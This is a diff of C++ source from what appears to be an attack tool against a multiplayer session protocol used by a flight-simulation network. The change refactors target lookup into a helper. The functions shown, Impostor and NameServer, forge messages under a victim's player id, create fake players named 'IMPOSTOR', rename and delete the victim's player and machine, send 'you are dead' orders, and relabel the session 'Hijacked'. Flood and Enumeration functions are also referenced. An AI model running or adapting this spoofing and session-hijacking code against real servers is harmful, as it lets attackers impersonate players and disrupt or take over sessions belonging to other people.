@@ -747,19 +747,35 @@ int Flood(Member& m, const Settings& s) {
   return 0;
 }
 
-int Impostor(Member& m, const Settings& s) {
+// The station's and the victim's players and their machines; nothing, said, when either is missing.
+struct Targets {
+  uint32_t Station = 0, Victim = 0;
+  const TableEntry* StationMachine = nullptr;
+  const TableEntry* VictimMachine = nullptr;
+};
+
+std::optional<Targets> FindTargets(const Member& m, const Settings& s) {
   const auto station = m.FindPlayer(s.Station);
   const auto victim = m.FindPlayer(s.Victim);
   const TableEntry* stationMachine = station ? m.MachineOf(*station) : nullptr;
   const TableEntry* victimMachine = victim ? m.MachineOf(*victim) : nullptr;
   if (!stationMachine || !victimMachine) {
     Print("no players " + s.Station + " and " + s.Victim + " in the session");
-    return 1;
+    return std::nullopt;
   }
+  return Targets{*station, *victim, stationMachine, victimMachine};
+}
+
+int Impostor(Member& m, const Settings& s) {
+  const std::optional<Targets> targets = FindTargets(m, s);
+  if (!targets) return 1;
+  const uint32_t station = targets->Station, victim = targets->Victim;
+  const TableEntry* stationMachine = targets->StationMachine;
+  const TableEntry* victimMachine = targets->VictimMachine;
   const Address stream = stationMachine->Stream, datagram = stationMachine->Datagram;
   const uint32_t victimMachineId = victimMachine->Id;
   // Ourselves under the victim's name, announced with its id.
-  m.Send(0, session::BuildAnnouncement(session::kPlayerAnnouncement, static_cast<int32_t>(*victim)));
+  m.Send(0, session::BuildAnnouncement(session::kPlayerAnnouncement, static_cast<int32_t>(victim)));
   // The same lines as the victim's player: a reset, a choice, positions far out at sea.
   const std::vector<DpMessage> lies = {session::BuildChatMessage("freeflt"), session::BuildChatMessage("1"),
                                        session::BuildChatMessage("pst_fp:VFR"), Position(0, -150, 30000)};
@@ -767,9 +783,9 @@ int Impostor(Member& m, const Settings& s) {
   const int64_t start = NowMs(), end = start + static_cast<int64_t>(s.Seconds * 1000);
   for (uint64_t step = 0; NowMs() < end; ++step) {
     const DpMessage& lie = lies[step % lies.size()];
-    m.Send(*station, lie, step % 2 == 0);
+    m.Send(station, lie, step % 2 == 0);
     ++own;
-    const auto forged = PlayerMessage{*victim, *station, lie.Bytes()}.Encode();
+    const auto forged = PlayerMessage{victim, station, lie.Bytes()}.Encode();
     m.Stream(stream, forged);  // Stream frames it: a player message after the header
     m.Datagram(datagram, forged);
     m.Stream(stream, Concat({Envelope(kPlayerWrapper), forged}));
@@ -778,23 +794,23 @@ int Impostor(Member& m, const Settings& s) {
       // The victim's id taken for a new player of ours; a player of the victim's machine created by
       // us; the victim renamed; the victim and its machine deleted.
       PlayerCreation create;
-      create.PlayerId = create.Player.PlayerId = *victim;
+      create.PlayerId = create.Player.PlayerId = victim;
       create.Player.ShortName = u"IMPOSTOR";
       create.Player.SystemPlayerId = m.peer.SystemPlayer();
       m.Stream(stream, create.Encode());
-      create.PlayerId = create.Player.PlayerId = *victim + 0x10000 * (1 + static_cast<uint32_t>(step));
+      create.PlayerId = create.Player.PlayerId = victim + 0x10000 * (1 + static_cast<uint32_t>(step));
       create.Player.ShortName = Utf8ToUtf16(s.Victim);
       create.Player.SystemPlayerId = victimMachineId;
       m.Stream(stream, create.Encode());
-      m.Stream(stream, PlayerNameChanged{kDefaultVersion, 0, *victim, u"IMPOSTOR", u"IMPOSTOR"}.Encode());
-      m.Stream(stream, PlayerGroupChange{kDeletePlayer, kDefaultVersion, 0, *victim, 0, 0, 0}.Encode());
+      m.Stream(stream, PlayerNameChanged{kDefaultVersion, 0, victim, u"IMPOSTOR", u"IMPOSTOR"}.Encode());
+      m.Stream(stream, PlayerGroupChange{kDeletePlayer, kDefaultVersion, 0, victim, 0, 0, 0}.Encode());
       m.Stream(stream,
                PlayerGroupChange{kDeletePlayer, kDefaultVersion, 0, victimMachineId, 0, 0, 0}.Encode());
       system += 5;
     }
     Pace(m, start, step + 1, 20);
   }
-  Print("posed as " + s.Victim + " (" + Hex(*victim) + "): " + std::to_string(own) +
+  Print("posed as " + s.Victim + " (" + Hex(victim) + "): " + std::to_string(own) +
         " messages as ourselves, " + std::to_string(asVictim) + " as the victim's player, " +
         std::to_string(system) + " creations, renamings and deletions of it");
   return 0;
@@ -943,14 +959,11 @@ int Enumeration(const Settings& s) {
 }
 
 int NameServer(Member& m, const Settings& s) {
-  const auto station = m.FindPlayer(s.Station);
-  const auto victim = m.FindPlayer(s.Victim);
-  const TableEntry* stationMachine = station ? m.MachineOf(*station) : nullptr;
-  const TableEntry* victimMachine = victim ? m.MachineOf(*victim) : nullptr;
-  if (!stationMachine || !victimMachine) {
-    Print("no players " + s.Station + " and " + s.Victim + " in the session");
-    return 1;
-  }
+  const std::optional<Targets> targets = FindTargets(m, s);
+  if (!targets) return 1;
+  const uint32_t station = targets->Station, victim = targets->Victim;
+  const TableEntry* stationMachine = targets->StationMachine;
+  const TableEntry* victimMachine = targets->VictimMachine;
   const uint32_t self = m.peer.SystemPlayer(), stationId = stationMachine->Id, victimId = victimMachine->Id;
   const Address stream = stationMachine->Stream;
   uint64_t claims = 0, orders = 0;
@@ -975,12 +988,12 @@ int NameServer(Member& m, const Settings& s) {
     forward.Player.ProviderData = m.OwnAddresses().Encode();
     const std::vector<std::vector<uint8_t>> orders_ = {
         EncodeYouAreDead(),
-        PlayerGroupChange{kDeletePlayer, kDefaultVersion, 0, *victim, 0, 0, 0}.Encode(),
+        PlayerGroupChange{kDeletePlayer, kDefaultVersion, 0, victim, 0, 0, 0}.Encode(),
         PlayerGroupChange{kDeletePlayer, kDefaultVersion, 0, victimId, 0, 0, 0}.Encode(),
-        PlayerGroupChange{kDeletePlayer, kDefaultVersion, 0, *station, 0, 0, 0}.Encode(),
+        PlayerGroupChange{kDeletePlayer, kDefaultVersion, 0, station, 0, 0, 0}.Encode(),
         PlayerGroupChange{kDeletePlayer, kDefaultVersion, 0, stationId, 0, 0, 0}.Encode(),
         SessionDescChanged{kDefaultVersion, 0, desc, u"Hijacked", std::nullopt}.Encode(),
-        PlayerNameChanged{kDefaultVersion, 0, *station, u"Hijacked", std::nullopt}.Encode(),
+        PlayerNameChanged{kDefaultVersion, 0, station, u"Hijacked", std::nullopt}.Encode(),
         forward.Encode()};
     for (const auto& order : orders_) {
       m.Stream(stream, order);
